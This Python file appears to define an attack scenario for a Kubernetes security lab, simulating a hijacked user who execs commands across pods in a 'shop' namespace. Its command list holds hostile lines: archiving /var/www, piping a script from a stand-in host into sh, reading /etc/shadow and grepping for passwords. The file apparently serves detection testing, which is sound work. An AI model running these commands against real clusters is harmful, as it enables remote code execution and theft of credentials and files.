"""Commands that pack, download and search are run in pod after pod."""

from lab.story import Scenario, Stage
from lab.streams import run

_COMMANDS = (
    ["tar", "czf", "-", "/var/www"],
    ["sh", "-c", "curl -s https://files.example.net/x.sh | sh"],
    ["cat", "/etc/shadow"],
    ["sh", "-c", "grep -r password /app"],
)


def _play(stage: Stage) -> None:
    thief = stage.hijack("alice")
    pods = stage.must(thief.get("/api/v1/namespaces/shop/pods?limit=500", table=True)).names
    for pod, command in zip(pods, stage.chance.sample(_COMMANDS, len(_COMMANDS)), strict=False):
        with stage.step(f"run {command[0]}", thief, "execution", ("C01", "C06", "C07", "C08", "C09")):
            run(thief, "shop", pod, command)


SCENARIO = Scenario(
    "exec-exfiltration",
    "Files leave by exec in many pods",
    "attack",
    "copy the shop's files",
    ("T1609", "T1530"),
    _play,
)
